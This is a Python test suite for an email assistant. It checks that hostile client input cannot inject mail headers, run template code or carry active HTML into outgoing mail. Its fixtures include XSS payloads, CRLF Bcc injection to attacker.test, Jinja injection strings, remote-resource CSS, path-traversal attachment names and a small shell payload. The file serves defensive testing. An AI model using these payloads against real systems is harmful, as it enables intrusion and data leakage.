"""Names, subjects and texts of clients in mail of ours: words, and never a header, an order to a template, or markup that acts."""

from __future__ import annotations

import email
import email.policy
import re
from datetime import timedelta
from email.message import EmailMessage
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser
from sqlalchemy import select

from assistant.outbox.compose import Letter, Person, compose
from assistant.rendering import Templates
from assistant.rendering.check import remote_resources
from assistant.rendering.harmless import harm_in, harmless
from assistant.resources import shipped
from assistant.store.tables import Client, Contact, OutboxMessage, Project, Record
from tests.offices import ASSISTANT, CHEN, LILEI, MONDAY, mail, open_office, write_config

MARKUP = '<script>alert(1)</script><img src="https://attacker.test/x.png"><a href="javascript:alert(2)">x</a>'
ORDERS = "{{ 1234 * 5678 }}{% for x in range(9) %}y{% endfor %}{{ contact.__class__ }}"
TURNED = "\u202egnp.exe\u202c \u2066x\u2069"
NAME = f"陈静 {MARKUP} {ORDERS} {TURNED}"
INJECTED = "\r\nBcc: everybody@attacker.test\r\n\r\nsecond body"
TEXT = f"请报价 {MARKUP} {ORDERS} {TURNED} 谢谢。\n{MARKUP}\n{ORDERS}\n{TURNED}\n<style>@import url(https://attacker.test/x.css)</style>\n</td></table>"
OUR_FIELDS = {
    "From",
    "To",
    "Cc",
    "Reply-To",
    "Subject",
    "Date",
    "Message-ID",
    "In-Reply-To",
    "References",
    "Auto-Submitted",
    "X-Auto-Response-Suppress",
    "Content-Language",
    "List-Unsubscribe",
    "MIME-Version",
    "Content-Type",
    "Content-Transfer-Encoding",
}


def encoded_word(text: str) -> str:
    return email.header.Header(text, "utf-8", maxlinelen=10_000).encode(maxlinelen=10_000)


def check_harmless(raw: bytes) -> None:
    """One mail of ours, byte for byte: its header is ours alone and its html does nothing."""
    message = email.message_from_bytes(raw, policy=email.policy.default)
    assert isinstance(message, EmailMessage)
    assert set(message.keys()) <= OUR_FIELDS
    assert len(message.get_all("From") or []) == len(message.get_all("To") or []) == 1
    assert not re.search("[\u202a-\u202e\u2066-\u2069\r\n]", str(message["Subject"]) + str(message["To"]))
    for part in message.walk():
        if part.get_content_maintype() != "text":
            continue
        content = part.get_content()
        assert "7006652" not in content, "a client's text was run as a template"
        assert "yyyyyyyyy" not in content
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", content)
        if part.get_content_subtype() == "html":
            assert harm_in(content) == ""
            assert remote_resources(content) == []
            assert LexborHTMLParser(content).css_first("script, img[src^=http], a[href^=javascript]") is None


def test_a_hostile_client_through_weeks_of_our_mail(tmp_path: Path) -> None:
    office = open_office(write_config(tmp_path), now=MONDAY + timedelta(hours=1))
    raw = mail(TEXT + " #complaint", subject="placeholder", message_id="h@mingshan.example")
    raw = re.sub(rb"(?m)^From:.*$", f"From: {encoded_word(NAME + INJECTED)} <{CHEN}>\r".encode(), raw)
    raw = re.sub(
        rb"(?m)^Subject:.*$", f"Subject: {encoded_word(f'新茶 {MARKUP} {ORDERS}{TURNED}{INJECTED}')}\r".encode(), raw
    )
    record = office.log(raw)
    assert "script" in record.originator_name
    for number, words in enumerate((TEXT, "停止提醒" + MARKUP)):
        subject = f"Re: {MARKUP} {ORDERS}"
        office.log(mail(f"方案附上。#proposal {MARKUP}", originator=LILEI, to=(CHEN,), cc=(ASSISTANT,), subject=subject,
                        at=office.clock.now(), answers=("h@mingshan.example",)))  # fmt: skip
        for _ in range(14):
            office.move(days=1)
            office.workplace.decide_due()
            office.workplace.plan()
        office.log(mail(words, subject=subject, at=office.clock.now(), message_id=f"a{number}@mingshan.example"))
        office.workplace.plan()
    with office.session() as session:
        rows = session.execute(select(OutboxMessage.purpose, OutboxMessage.raw)).all()
        assert session.scalars(select(Client)).all()
        assert session.scalars(select(Project)).all()
        assert session.scalars(select(Contact)).all()
    assert {"follow-up", "summary"} <= {purpose for purpose, _ in rows}
    for _, sent in rows:
        check_harmless(sent)


@given(st.text(max_size=200), st.text(max_size=200), st.text(max_size=200))
def test_no_name_or_subject_becomes_a_header(name: str, subject: str, text: str) -> None:
    letter = Letter(
        originator=Person(name, "assistant@lanhai.example"),
        to=(Person(name, "chen@mingshan.example\r\nBcc: x@attacker.test"),),
        subject=subject,
        text=text,
        date=MONDAY,
        timezone="Asia/Shanghai",
        message_id="x@lanhai.example",
        in_reply_to="y@z>\r\nBcc: a@attacker.test",
        references=("<a@b>\r\nX: y",),
        cc=(Person(f"{name}\r\nBcc: a@attacker.test", "w@mingshan.example"),),
    )
    message = email.message_from_bytes(compose(letter), policy=email.policy.compat32)
    assert set(message.keys()) == {
        "From", "To", "Cc", "Subject", "Date", "Message-ID", "Auto-Submitted", "X-Auto-Response-Suppress",
        "Content-Type", "Content-Transfer-Encoding", "MIME-Version",
    }  # fmt: skip


@pytest.mark.parametrize(
    "markup",
    [
        "<script>x</script>", '<p onclick="x">y</p>', '<a href="javascript:x">y</a>', '<a href=" java\tscript:x">y</a>',
        '<a href="vbscript:x">y</a>', '<a href="data:text/html,x">y</a>', '<img src="https://attacker.test/x.png">',
        '<img src="//attacker.test/x.png">', '<img srcset="x 2x">', '<iframe src="x"></iframe>', "<svg><script>x</script></svg>",
        '<meta http-equiv="Refresh" content="0;url=https://attacker.test">', "<style>@import 'https://attacker.test'</style>",
        '<p style="background:url(https://attacker.test)">y</p>', '<p style="background:u\\72l(https://attacker.test)">y</p>',
        '<form action="https://attacker.test"><input></form>', '<link rel="stylesheet" href="https://attacker.test">',
        '<table background="https://attacker.test/x.png"></table>', '<base href="https://attacker.test">',
        "<body onload=x>", "<object data=x></object>", '<video poster="x"></video>', "<math><mi//xlink:href='javascript:x'>",
    ],
)  # fmt: skip
def test_what_a_careless_template_lets_through_is_cleaned(markup: str) -> None:
    html = f"<!doctype html><html><head><title>t</title></head><body><p>before</p>{markup}<p>after</p></body></html>"
    if "background=" not in markup:  # an image, but loaded only by programs of the last century
        assert harm_in(html), "it is noticed"
    cleaned = harmless(html)
    assert harm_in(cleaned) == ""
    assert "attacker.test" not in cleaned or "background=" in markup
    assert "before" in cleaned


def test_a_template_that_prints_as_it_is_sends_no_script(tmp_path: Path) -> None:
    folder = tmp_path / "templates" / "followups" / "mine"
    folder.mkdir(parents=True)
    (folder / "subject.en.j2").write_text("{{ waited.subject }}", encoding="utf-8")
    (folder / "text.en.j2").write_text("{{ waited.subject }}", encoding="utf-8")
    (folder / "html.en.j2").write_text("<html><body><p>{{ waited.subject | safe }}</p></body></html>", encoding="utf-8")
    templates = Templates(tmp_path / "templates", shipped("templates"), "en")
    sample = dict(templates.sample("followups/proposal-nudge-1", "en"))
    waited = sample["waited"]
    sample["waited"] = {"subject": f"offer {MARKUP} {ORDERS}"} if isinstance(waited, dict) else _with_subject(waited)
    rendered = templates.render("followups/mine", "en", sample)
    assert rendered.html is not None
    assert harm_in(rendered.html) == ""
    assert "offer" in rendered.html
    assert "7006652" not in rendered.html + rendered.text


def _with_subject(waited: object) -> object:
    from dataclasses import replace

    return replace(waited, subject=f"offer {MARKUP} {ORDERS}")  # type: ignore[type-var]  # the sample's own frozen type


@pytest.mark.parametrize("noun", ["records", "outbox list", "audit", "threads"])
def test_listings_show_file_names_and_subjects_without_orders_to_the_terminal(tmp_path: Path, noun: str) -> None:
    from tests.offices import command

    office = open_office(write_config(tmp_path), now=MONDAY + timedelta(hours=1))
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = CHEN, ASSISTANT, "[bold]x[/nothing] \u202e"
    message.set_content("#proposal 附件")
    message.add_attachment(b"MZ", maintype="application", subtype="x", filename="../../etc/\u202egnp.exe")
    office.log(message.as_bytes())
    shown = command(office.config_file, *noun.split())
    assert shown.status == 0, shown.err
    assert not set(shown.out) & set("\x1b\x9b\u202e")


def test_attachments_are_never_written_anywhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    office = open_office(write_config(tmp_path), now=MONDAY + timedelta(hours=1))
    before = {path.name for path in tmp_path.iterdir()}
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = CHEN, ASSISTANT, "x"
    message.set_content("附件")
    for name in ("../../../tmp/evil.sh", "/etc/passwd", "C:\\autoexec.bat", "a\0b.sh", ".reading-1-1", "CON"):
        message.add_attachment(b"#!/bin/sh\ntouch /tmp/owned", maintype="application", subtype="x-sh", filename=name)
    record = office.log(message.as_bytes())
    assert len(record.attachments) == 6
    assert {path.name for path in tmp_path.iterdir()} - before <= {"assistant.db-wal", "assistant.db-shm"}


def test_records_keep_the_words_as_they_were(tmp_path: Path) -> None:
    """What is harmless in our mail is evidence in the record: nothing is taken out there."""
    office = open_office(write_config(tmp_path), now=MONDAY + timedelta(hours=1))
    office.log(mail(TEXT))
    with office.session() as session:
        assert MARKUP in (session.scalar(select(Record.reply_text)) or "")
